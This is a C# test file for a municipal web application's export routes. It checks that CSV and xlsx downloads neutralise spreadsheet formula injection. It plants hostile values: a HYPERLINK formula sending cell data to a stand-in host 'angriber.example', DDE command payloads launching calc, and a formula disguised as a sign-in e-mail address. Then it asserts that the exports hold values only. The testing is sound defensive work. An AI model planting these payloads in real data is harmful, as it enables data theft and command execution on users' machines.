using System.IO.Compression;
using System.Net;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.AspNetCore.Routing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Rammevaerk.Demo;
using Rammevaerk.Economics;
using Rammevaerk.Shared;
using Rammevaerk.Tests.Infrastructure;
using Rammevaerk.Tests.Meetings;

namespace Rammevaerk.Tests.HostileInput;

/// <summary>
/// Exports that cannot run: with text that a spreadsheet would take for a formula in the data (a dataset's keys and
/// dimension, a calculation's name, an offer's name), every CSV export writes it as text (OWASP's rule, one writer),
/// and every xlsx export holds values only.
/// </summary>
public abstract class ExportTests(AppFactory app)
{
    private const string Hyperlink = "=HYPERLINK(\"http://angriber.example/?x=\"&A1;\"Klik her\")";
    private const string Dde = "+cmd|' /C calc'!A0";
    private const string At = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string Minus = "-2+3+cmd|' /C calc'!A0";
    /// <summary>A formula that passes as an e-mail address on the sign-in form, so the security log keeps it.</summary>
    private const string FormulaAddress = "=cmd|' /C calc'!A0@angriber.example";

    /// <summary>The routes that serve files by a {format}, a .xlsx name or /excel: a new one fails here until it is covered below.</summary>
    private static readonly string[] ExportRoutes =
    [
        "behovsanalyser/{id:int}/excel", "oekonomi/beregning/{id:int}/{format}", "oekonomi/{id:int}/{format}",
        "sekretariat/behovsanalyser/{id:int}/excel", "sekretariat/early-warning/{year:int}/opsamling.xlsx", "sekretariat/oekonomi/beregning/{id:int}/{format}",
        "sekretariat/oekonomi/{id:int}/{format}", "sekretariat/sikkerhedslog.xlsx", "sekretariat/statistik/{id:int}/{format}", "statistik/{id:int}/{format}",
        "tilbud/tilbudsliste-{year:int}.xlsx", "tilbud/udvikling.xlsx",
    ];

    private async Task<(int Dataset, int Calculation, int Allocation, int Survey)> PlantAsync()
    {
        using var scope = app.Services.CreateScope();
        var db = scope.ServiceProvider.GetRequiredService<Rammevaerk.Data.AppDb>();
        var dataset = await db.Datasets.Include(d => d.Values).SingleAsync(d => d.Name == DemoStatistics.Name);
        dataset.Dimension1 = At;
        dataset.Values.OrderBy(v => v.Id).First().Key1 = Hyperlink;
        var calculation = await db.SavedCalculations.SingleAsync(c => c.Name == DemoEconomics.TableThree || c.Name == Dde);
        calculation.Name = Dde;
        var allocation = await db.Allocations.OrderBy(a => a.Id).FirstAsync(a => a.State == AllocationState.Decided);
        allocation.Name = Minus;
        var survey = await db.NeedsSurveys.FirstAsync(s => s.Title == DemoSurveys.FirstTitle);
        survey.TargetGroup = Dde;
        var offer = await db.Offers.Where(o => db.Operators.Any(op => op.Id == o.OperatorId && op.MunicipalityCode == TestAccounts.MunicipalityCode)).OrderBy(o => o.Id).FirstAsync();
        offer.Name = Hyperlink;
        await db.SaveChangesAsync();
        var register = scope.ServiceProvider.GetRequiredService<Rammevaerk.Offers.OfferRegister>();
        // The public list reads the revisions: write one for the renamed offer, for this year and last.
        foreach (var year in new[] { 2026, 2027 })
        {
            var snapshot = (await register.CurrentForOperatorAsync(offer.OperatorId)).Single(o => o.OfferId == offer.Id);
            await register.ApplyAsync(snapshot, year, "Test af eksport", "test", DateTime.UtcNow);
            await register.SaveAsync();
        }
        return (dataset.Id, calculation.Id, allocation.Id, survey.Id);
    }

    [Fact]
    public void The_export_routes_are_the_ones_tested_here()
    {
        var routes = app.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .Select(e => e.RoutePattern.RawText ?? "")
            .Where(r => r.Contains("{format}", StringComparison.Ordinal) || r.EndsWith(".xlsx", StringComparison.Ordinal) || r.EndsWith("/excel", StringComparison.Ordinal))
            .Select(r => r.TrimStart('/')).Distinct().Order().ToList();
        Assert.Equal(ExportRoutes.Order(), routes);
    }

    [Fact]
    public async Task Every_csv_export_writes_formula_text_as_text()
    {
        var (dataset, calculation, allocation, _) = await PlantAsync();
        var client = await app.SignInAsSecretariatAsync();
        var planted = new List<string>();
        foreach (var url in new[]
                 {
                     $"/statistik/{dataset}/csv", $"/sekretariat/statistik/{dataset}/csv", $"/oekonomi/beregning/{calculation}/csv",
                     $"/sekretariat/oekonomi/beregning/{calculation}/csv", $"/oekonomi/{allocation}/csv", $"/sekretariat/oekonomi/{allocation}/csv",
                 })
        {
            using var response = await client.GetAsync(url);
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
            var text = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF');
            foreach (var cell in Cells(text))
            {
                Assert.False(Csv.IsFormula(cell), $"{url}: the cell «{cell}» would run as a formula");
                if (cell.StartsWith('\'')) planted.Add(cell[1..]);
            }
        }
        Assert.Contains(Hyperlink, planted);
        Assert.Contains(At, planted);
        Assert.Contains(planted, p => p.StartsWith(Dde, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Every_xlsx_export_holds_values_only()
    {
        var (dataset, calculation, allocation, survey) = await PlantAsync();
        // The security log records what an attacker typed as the address on the sign-in form.
        using (await AppFactory.SubmitSignInAsync(app.CreateAnonymousClient(), FormulaAddress, "forkert-adgangskode")) { }
        var secretariat = await app.SignInAsSecretariatAsync();
        var municipality = await app.SignInAsMunicipalityAsync();
        var report = await app.QueryAsync(db => db.OperatorReports.Where(r => db.Operators.Any(o => o.Id == r.OperatorId && o.MunicipalityCode == TestAccounts.MunicipalityCode))
            .OrderByDescending(r => r.Id).Select(r => r.Id).FirstAsync());
        var texts = new List<string>();
        foreach (var (client, url) in new[]
                 {
                     (secretariat, $"/statistik/{dataset}/excel"), (secretariat, $"/sekretariat/statistik/{dataset}/excel"),
                     (secretariat, $"/oekonomi/beregning/{calculation}/excel"), (secretariat, $"/sekretariat/oekonomi/beregning/{calculation}/excel"),
                     (secretariat, $"/oekonomi/{allocation}/excel"), (secretariat, $"/sekretariat/oekonomi/{allocation}/excel"),
                     (secretariat, $"/behovsanalyser/{survey}/excel"), (secretariat, $"/sekretariat/behovsanalyser/{survey}/excel"),
                     (secretariat, "/sekretariat/early-warning/2026/opsamling.xlsx"), (secretariat, "/tilbud/tilbudsliste-2027.xlsx"),
                     (secretariat, "/tilbud/udvikling.xlsx?fra=2026&til=2027"), (municipality, $"/indberetning/rapport/{report}?handler=Excel"),
                     (secretariat, "/sekretariat/sikkerhedslog.xlsx"),
                 })
        {
            using var response = await client.GetAsync(url);
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{url} answered {(int)response.StatusCode}");
            using var doc = SpreadsheetDocument.Open(new MemoryStream(await response.Content.ReadAsByteArrayAsync()), false);
            foreach (var sheet in doc.WorkbookPart!.WorksheetParts)
            {
                Assert.Empty(sheet.Worksheet.Descendants<CellFormula>());
                texts.AddRange(sheet.Worksheet.Descendants<Cell>().Select(c => c.InlineString?.InnerText ?? "").Where(t => t.Length > 0));
            }
            var shared = doc.WorkbookPart.SharedStringTablePart?.SharedStringTable.Elements<SharedStringItem>().Select(i => i.InnerText) ?? [];
            texts.AddRange(shared);
        }
        Assert.Contains(Hyperlink, texts);
        Assert.Contains(At, texts);
        Assert.Contains(texts, t => t.Contains(Dde, StringComparison.Ordinal));
        Assert.Contains(texts, t => t.Contains(FormulaAddress, StringComparison.Ordinal));
    }

    /// <summary>The cells of a semicolon-separated file, quotes undone.</summary>
    private static IEnumerable<string> Cells(string text)
    {
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else cell.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c is ';' || (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n'))
            {
                yield return cell.ToString();
                cell.Clear();
                if (c == '\r') i++;
            }
            else cell.Append(c);
        }
        if (cell.Length > 0) yield return cell.ToString();
    }
}

public sealed class ExportTestsOnSqlite(SqliteAppFactory app) : ExportTests(app), IClassFixture<SqliteAppFactory>;

public sealed class ExportTestsOnPostgres(PostgresAppFactory app) : ExportTests(app), IClassFixture<PostgresAppFactory>;
